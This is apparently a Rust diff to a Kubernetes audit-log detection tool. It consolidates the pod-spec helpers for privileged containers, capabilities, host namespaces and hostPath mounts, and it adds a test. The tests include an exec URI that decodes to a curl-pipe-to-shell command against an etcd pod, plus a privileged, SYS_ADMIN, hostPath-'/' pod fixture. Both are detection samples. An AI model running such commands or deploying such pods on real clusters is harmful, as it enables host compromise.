@@ -127,6 +127,7 @@ fn at(root: Option<&Value>, rest: &str) -> Dynamic {
 /// What in a pod spec can give host access, read from the typed view or the full object.
 #[derive(Default)]
 struct PodFacts<'a> {
+    images: Vec<&'a str>,
     privileged: bool,
     capabilities: Vec<&'a str>,
     namespaces: Vec<&'static str>,
@@ -136,6 +137,10 @@ struct PodFacts<'a> {
 impl<'a> PodFacts<'a> {
     fn of_view(spec: &'a Spec) -> Self {
         Self {
+            images: spec
+                .all_containers()
+                .filter_map(|c| c.image.as_deref())
+                .collect(),
             privileged: spec.all_containers().any(|c| c.privileged()),
             capabilities: spec
                 .all_containers()
@@ -153,6 +158,7 @@ impl<'a> PodFacts<'a> {
         };
         let cs = containers(obj);
         Self {
+            images: cs.iter().filter_map(|c| c["image"].as_str()).collect(),
             privileged: cs.iter().any(|c| {
                 c.pointer("/securityContext/privileged")
                     .and_then(Value::as_bool)
@@ -218,15 +224,21 @@ impl<'a> PodFacts<'a> {
     }
 }
 
+/// The pod-spec facts of the event's request object, from the typed view when it reads the
+/// object and from the full object otherwise.
+fn facts(e: &Ev) -> PodFacts<'_> {
+    match e.view() {
+        Some(v) => v.pod_spec().map(PodFacts::of_view).unwrap_or_default(),
+        None => e.request().map(PodFacts::of_value).unwrap_or_default(),
+    }
+}
+
 /// Registers `pointer` and the helpers over pod specs, bindings, roles and exec requests.
 pub fn register(engine: &mut Engine, lists: Arc<Lists>) {
     // One native pass over the pod spec instead of a script loop per finding; from the full
     // object when the typed view cannot read it (the same findings, parsed the slow way).
     engine.register_fn("host_access", move |e: &mut Ev| -> rhai::Array {
-        let facts = match e.view() {
-            Some(v) => v.pod_spec().map(PodFacts::of_view).unwrap_or_default(),
-            None => e.request().map(PodFacts::of_value).unwrap_or_default(),
-        };
+        let facts = facts(e);
         let findings = super::state_api::with_cluster(|cluster| facts.findings(&lists, cluster));
         findings.into_iter().map(Dynamic::from).collect()
     });
@@ -244,111 +256,15 @@ pub fn register(engine: &mut Engine, lists: Arc<Lists>) {
         }
         at(e.request(), rest)
     });
-    engine.register_fn("container_images", |e: &mut Ev| {
-        answer(
-            e,
-            |v| {
-                strings(
-                    v.pod_spec()
-                        .into_iter()
-                        .flat_map(|s| s.all_containers())
-                        .filter_map(|c| c.image.as_deref()),
-                )
-            },
-            |r| {
-                strings(
-                    r.map(containers)
-                        .unwrap_or_default()
-                        .iter()
-                        .filter_map(|c| c["image"].as_str()),
-                )
-            },
-        )
-    });
-    engine.register_fn("has_privileged_container", |e: &mut Ev| {
-        answer(
-            e,
-            |v| {
-                v.pod_spec()
-                    .is_some_and(|s| s.all_containers().any(|c| c.privileged()))
-            },
-            |r| {
-                r.map(containers).unwrap_or_default().iter().any(|c| {
-                    c.pointer("/securityContext/privileged")
-                        .and_then(Value::as_bool)
-                        == Some(true)
-                })
-            },
-        )
-    });
+    engine.register_fn("container_images", |e: &mut Ev| strings(facts(e).images));
+    engine.register_fn("has_privileged_container", |e: &mut Ev| facts(e).privileged);
     engine.register_fn("host_path_mounts", |e: &mut Ev| {
-        answer(
-            e,
-            |v| strings(v.pod_spec().into_iter().flat_map(|s| s.host_paths())),
-            |r| {
-                let vols = r
-                    .and_then(pod_spec)
-                    .and_then(|s| s["volumes"].as_array())
-                    .map(Vec::as_slice)
-                    .unwrap_or_default();
-                strings(
-                    vols.iter()
-                        .filter_map(|v| v.pointer("/hostPath/path").and_then(Value::as_str)),
-                )
-            },
-        )
+        strings(facts(e).host_paths)
     });
     engine.register_fn("added_capabilities", |e: &mut Ev| {
-        answer(
-            e,
-            |v| {
-                strings(
-                    v.pod_spec()
-                        .into_iter()
-                        .flat_map(|s| s.all_containers())
-                        .flat_map(|c| c.added_capabilities().iter().map(String::as_str)),
-                )
-            },
-            |r| {
-                let mut caps: Vec<&str> = Vec::new();
-                for c in r.map(containers).unwrap_or_default() {
-                    if let Some(add) = c
-                        .pointer("/securityContext/capabilities/add")
-                        .and_then(Value::as_array)
-                    {
-                        caps.extend(add.iter().filter_map(Value::as_str));
-                    }
-                }
-                strings(caps)
-            },
-        )
+        strings(facts(e).capabilities)
     });
-    engine.register_fn("host_namespaces", |e: &mut Ev| {
-        answer(
-            e,
-            |v| {
-                strings(
-                    v.pod_spec()
-                        .map(|s| s.host_namespaces())
-                        .unwrap_or_default(),
-                )
-            },
-            |r| {
-                let spec = r.and_then(pod_spec);
-                let on = |k: &str| spec.and_then(|s| s[k].as_bool()).unwrap_or(false);
-                strings(
-                    [
-                        ("hostNetwork", "network"),
-                        ("hostPID", "pid"),
-                        ("hostIPC", "ipc"),
-                    ]
-                    .into_iter()
-                    .filter(|(key, _)| on(key))
-                    .map(|(_, name)| name),
-                )
-            },
-        )
-    });
+    engine.register_fn("host_namespaces", |e: &mut Ev| strings(facts(e).namespaces));
     engine.register_fn("root_containers", |e: &mut Ev| {
         answer(
             e,
@@ -429,6 +345,54 @@ mod tests {
         let uri = "/api/v1/namespaces/kube-system/pods/etcd-0/exec?command=sh&command=-c&command=curl+http%3A%2F%2Fx%2Fy+%7C+sh&container=etcd&stdin=true";
         assert_eq!(exec_command(uri), "sh -c curl http://x/y | sh");
         assert_eq!(exec_command("/api/v1/pods"), "");
+    }
+
+    fn pod_event(pod: serde_json::Value) -> Ev {
+        let line = serde_json::json!({
+            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "auditID": "x",
+            "stage": "ResponseComplete", "verb": "create", "requestURI": "/api/v1/namespaces/web/pods",
+            "user": {"username": "mallory@example.com"},
+            "objectRef": {"resource": "pods", "namespace": "web"},
+            "requestObject": pod
+        })
+        .to_string();
+        Ev::new(
+            crate::event::decode_record(line.as_bytes(), &Default::default())
+                .events
+                .remove(0),
+        )
+    }
+
+    #[test]
+    fn a_null_or_mistyped_field_hides_nothing_from_the_pod_helpers() {
+        let spec = |extra: serde_json::Value| {
+            let mut s = serde_json::json!({
+                "hostPID": true,
+                "containers": [{"name": "x", "image": "busybox",
+                    "securityContext": {"privileged": true, "capabilities": {"add": ["SYS_ADMIN"]}}}],
+                "volumes": [{"name": "root", "hostPath": {"path": "/"}}]
+            });
+            s.as_object_mut()
+                .unwrap()
+                .extend(extra.as_object().unwrap().clone());
+            serde_json::json!({"kind": "Pod", "metadata": {"name": "p"}, "spec": s})
+        };
+        // The typed view reads the clean pod; a null hostIPC or a string hostNetwork make it
+        // give up, and the full object answers the same.
+        for extra in [
+            serde_json::json!({}),
+            serde_json::json!({"hostIPC": null}),
+            serde_json::json!({"hostNetwork": "yes"}),
+        ] {
+            let e = pod_event(spec(extra.clone()));
+            assert_eq!(e.view().is_some(), extra.as_object().unwrap().is_empty());
+            let f = facts(&e);
+            assert!(f.privileged, "{extra}");
+            assert_eq!(f.images, ["busybox"], "{extra}");
+            assert_eq!(f.capabilities, ["SYS_ADMIN"], "{extra}");
+            assert_eq!(f.namespaces, ["pid"], "{extra}");
+            assert_eq!(f.host_paths, ["/"], "{extra}");
+        }
     }
 
     #[test]
